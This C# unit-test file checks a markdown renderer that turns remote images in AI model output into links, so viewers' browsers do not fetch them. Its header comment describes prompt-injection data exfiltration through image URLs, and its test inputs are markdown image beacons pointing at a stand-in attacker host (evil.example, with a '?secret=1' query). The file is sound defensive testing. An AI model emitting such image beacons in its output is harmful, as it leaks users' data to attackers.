using Bunit;
using ContentWatch.Web.Components.Shared;

namespace ContentWatch.Tests.Web.Components;

/// <summary>
/// An image in model output would be fetched by the browser of everyone watching the run: a remote one is a way
/// out for what a prompt injection read. Remote images become links; images of this site and data: ones stay.
/// </summary>
public sealed class MarkdownImageTests : BunitContext
{
    [Theory]
    [InlineData("![pixel](https://evil.example/p.png?secret=1)", "https://evil.example/p.png?secret=1")]
    [InlineData("![pixel](http://127.0.0.2:9/p.png)", "http://127.0.0.2:9/p.png")]
    [InlineData("![pixel](//evil.example/p.png)", "//evil.example/p.png")]
    [InlineData("![pixel][ref]\n\n[ref]: https://evil.example/r.png", "https://evil.example/r.png")]
    [InlineData("[![pixel](https://evil.example/in-link.png)](https://example.org)", "https://evil.example/in-link.png")]
    public void RemoteImage_IsRenderedAsALink_NotAnImage(string markdown, string url)
    {
        foreach (var html in new[] { SafeMarkdown.ToHtml(markdown), Render<MarkdownView>(p => p.Add(v => v.Text, markdown)).Markup })
        {
            Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
            Assert.Contains($"href=\"{url.Replace("&", "&amp;", StringComparison.Ordinal)}\"", html, StringComparison.Ordinal);
            Assert.Contains("pixel", html, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void RemoteImageWithoutAlt_ShowsItsAddressAsTheLinkText()
    {
        var html = SafeMarkdown.ToHtml("![](https://evil.example/p.png)");

        Assert.DoesNotContain("<img", html, StringComparison.Ordinal);
        Assert.Contains(">https://evil.example/p.png</a>", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("![logo](/favicon.svg)", "/favicon.svg")]
    [InlineData("![logo](favicon.svg)", "favicon.svg")]
    public void SameSiteImage_StaysAnImage(string markdown, string src)
    {
        var html = SafeMarkdown.ToHtml(markdown);

        Assert.Contains($"<img src=\"{src}\"", html, StringComparison.Ordinal);
    }
}
